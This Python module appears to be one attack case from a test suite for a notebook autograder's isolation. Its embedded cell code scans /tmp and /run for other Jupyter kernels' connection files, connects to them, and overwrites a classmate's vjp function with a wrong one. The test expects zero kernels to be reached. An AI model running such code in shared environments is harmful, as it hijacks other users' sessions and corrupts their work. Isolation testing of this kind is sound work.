from . import LEAKED, submission, with_solution

NAME = "drives_sibling_kernel"
WHY = ("looks for 6 s for other kernels' connection files and sockets, and over them would replace "
       "a classmate's vjp with a wrong one")
KIND = "cheat"
EXPECT = {"loses": [], "reason": "sibling kernels reached: 0", "cell": "grad_via_backward"}

ATTACK = f'''
import glob, json, os, time
reached, deadline = 0, time.monotonic() + 6
from ipykernel import get_connection_file
own = os.path.realpath(get_connection_file())
while time.monotonic() < deadline and not reached:
    for path in glob.glob("/tmp/**/kernel*.json", recursive=True) + glob.glob("/run/**/kernel*.json", recursive=True):
        if os.path.realpath(path) == own:
            continue
        try:
            info = json.load(open(path))
        except (OSError, ValueError):
            continue
        try:
            from jupyter_client import BlockingKernelClient
            client = BlockingKernelClient()
            client.load_connection_info(info)
            client.start_channels()
            client.execute("def vjp(f, x, v):\\n    return v")
            reply = client.get_shell_msg(timeout=2)
            reached += 1
            print("{LEAKED}: drove the kernel of", path, reply["content"]["status"])
        except Exception as error:
            pass
    time.sleep(0.5)
print("sibling kernels reached:", reached)
'''


def build(release, solutions):
    return submission(release, solutions, grad_via_backward=with_solution(solutions, "grad_via_backward", ATTACK))
